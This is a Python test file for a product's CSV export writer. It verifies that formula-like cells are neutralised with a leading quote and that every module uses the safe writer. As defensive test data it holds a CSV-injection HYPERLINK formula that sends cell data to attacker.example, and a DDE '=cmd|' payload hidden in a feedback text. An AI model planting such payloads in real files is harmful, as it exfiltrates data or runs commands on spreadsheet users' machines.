"""Every CSV the product hands out goes through one writer, and no cell of it runs as a formula."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path

from sqlalchemy.orm import Session

import cpxm
from cpxm import csvout
from cpxm.safety.exports import cases_csv
from cpxm.safety.screening import screen_items
from tests.factories import make_taxonomy
from tests.safety.helpers import make_feedback

HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


def test_formula_like_text_is_quoted_and_numbers_are_not() -> None:
    assert csvout.safe_cell(HOSTILE) == "'" + HOSTILE
    for start in ("+1+cmd", "-2-x", "@SUM(A1)", "\tx", "\rx"):
        assert csvout.safe_cell(start) == "'" + start
    assert csvout.safe_cell("-3.5") == "-3.5"  # a number, written as one
    assert csvout.safe_cell(-3) == -3
    assert csvout.safe_cell(None) == ""
    assert csvout.safe_cell("Reps visit too often.") == "Reps visit too often."
    text = csvout.csv_text(["a", "b"], [[HOSTILE, 0.123456789]], float_format=".6g")
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["'" + HOSTILE, "0.123457"]]


def test_the_safety_export_neutralises_words_from_feedback(session: Session) -> None:
    make_taxonomy(session)
    item = make_feedback(
        session,
        "=cmd|' /C calc'!A0 Since starting Immuny I have had a terrible rash.",
        source_kind="call_note",
    )
    (case,) = screen_items(session, items=[item], now=datetime(2026, 11, 23, 12, 0))[1]
    case.decision_note = HOSTILE
    rows = list(csv.DictReader(io.StringIO(cases_csv([case]))))
    assert rows[0]["decision_note"] == "'" + HOSTILE
    assert not any(value.startswith(csvout.FORMULA_START) for value in rows[0].values())


def test_no_module_writes_csv_around_the_safe_writer() -> None:
    source = Path(cpxm.__file__).parent
    # The demo writes the source systems' own export files, which `cpxm import` reads back as
    # they are: they are inputs made for the product, not downloads for a spreadsheet.
    exempt = {source / "csvout.py", source / "demo" / "exports.py"}
    found = [
        str(path.relative_to(source))
        for path in source.rglob("*.py")
        if path not in exempt
        and (
            "csv.writer(" in (text := path.read_text(encoding="utf-8")) or "csv.DictWriter(" in text
        )
    ]
    assert found == []
